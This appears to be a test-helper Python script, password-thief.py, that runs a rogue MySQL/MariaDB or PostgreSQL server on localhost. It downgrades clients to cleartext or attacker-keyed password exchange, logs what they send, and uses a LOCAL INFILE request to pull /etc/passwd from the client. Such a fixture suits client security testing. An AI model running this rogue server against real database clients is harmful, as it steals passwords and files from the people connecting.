#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""password-thief.py PORT_FILE RECORD HOW: a server without TLS that wants to have the password.

HOW: plugin names of MySQL (mysql_clear_password, dialog, sha256_password, caching_sha2_password: the last two send an RSA key
of their own when they are asked for one), infile (answers the first statement by asking for a file), or postgres (asks for the
password in clear, after it has refused TLS), postgres-early (with its refusal), postgres-later (after the first step of SCRAM).
What clients send after their login goes to RECORD, once more deciphered where it was wrapped in our key."""
import os
import socket
import struct
import subprocess
import sys
import threading

port_file, record, how = sys.argv[1:4]
out = open(record, "ab", buffering=0)
SCRAMBLE = b"abcdefghijklmnopqrst"
KEY = record + ".key"


def take(client, n):
    data = b""
    while len(data) < n:
        more = client.recv(n - len(data))
        if not more:
            raise EOFError
        data += more
    return data


def send(client, number, body):
    client.sendall(struct.pack("<I", len(body))[:3] + bytes([number & 255]) + body)


def receive(client):
    head = take(client, 4)
    body = take(client, head[0] | head[1] << 8 | head[2] << 16)
    return head[3], body


def unwrap(blob):
    plain = subprocess.run(["openssl", "pkeyutl", "-decrypt", "-inkey", KEY, "-pkeyopt", "rsa_padding_mode:oaep"], input=blob, capture_output=True).stdout
    return bytes(a ^ b for a, b in zip(plain, SCRAMBLE * 20))


def mysql(client):
    capabilities = 0x1 | 0x8 | 0x80 | 0x200 | 0x2000 | 0x8000 | 0x80000 | 0x20000 | 0x200000
    send(client, 0, b"\x0a10.11.6-MariaDB\0" + struct.pack("<I", 5) + SCRAMBLE[:8] + b"\0" + struct.pack("<HBHH", capabilities & 0xFFFF, 33, 2, capabilities >> 16)
         + b"\x15" + bytes(10) + SCRAMBLE[8:] + b"\0mysql_native_password\0")
    number, _ = receive(client)
    if how != "infile":
        send(client, number + 1, b"\xfe" + how.encode() + b"\0" + (b"\x04Password: " if how == "dialog" else SCRAMBLE + b"\0"))
        number, body = receive(client)
        out.write(body)
        if how == "caching_sha2_password":
            send(client, number + 1, b"\x01\x04")
            number, body = receive(client)
            out.write(body)
        if body in (b"\x01", b"\x02"):
            public = subprocess.run(["openssl", "rsa", "-in", KEY, "-pubout"], capture_output=True).stdout
            send(client, number + 1, b"\x01" + public)
            number, body = receive(client)
            out.write(unwrap(body))
    send(client, number + 1, b"\0\0\0\2\0\0\0")
    number, body = receive(client)
    if how == "infile":
        send(client, 1, b"\xfb/etc/passwd")
        number, body = receive(client)
        while body:
            out.write(body)
            number, body = receive(client)
        send(client, number + 1, b"\0\0\0\2\0\0\0")


def postgres(client):
    while True:
        body = take(client, struct.unpack(">I", take(client, 4))[0] - 4)
        if len(body) != 4:
            break
        client.sendall(b"N" + (struct.pack(">cII", b"R", 8, 3) if how == "postgres-early" else b""))
    if how == "postgres-later":
        client.sendall(b"R" + struct.pack(">II", 8 + 15, 10) + b"SCRAM-SHA-256\0\0" + struct.pack(">cII", b"R", 8, 3))
    else:
        client.sendall(struct.pack(">cII", b"R", 8, 3))
    while data := client.recv(4096):
        out.write(data)


def serve(client):
    try:
        (postgres if how.startswith("postgres") else mysql)(client)
    except (OSError, EOFError):
        pass
    client.close()


if not how.startswith("postgres"):
    subprocess.run(["openssl", "genrsa", "-out", KEY, "2048"], stderr=subprocess.DEVNULL, check=True)
listener = socket.create_server(("127.0.0.1", 0))
with open(port_file + ".tmp", "w") as file:
    file.write(str(listener.getsockname()[1]))
os.rename(port_file + ".tmp", port_file)
while True:
    threading.Thread(target=serve, args=(listener.accept()[0],), daemon=True).start()
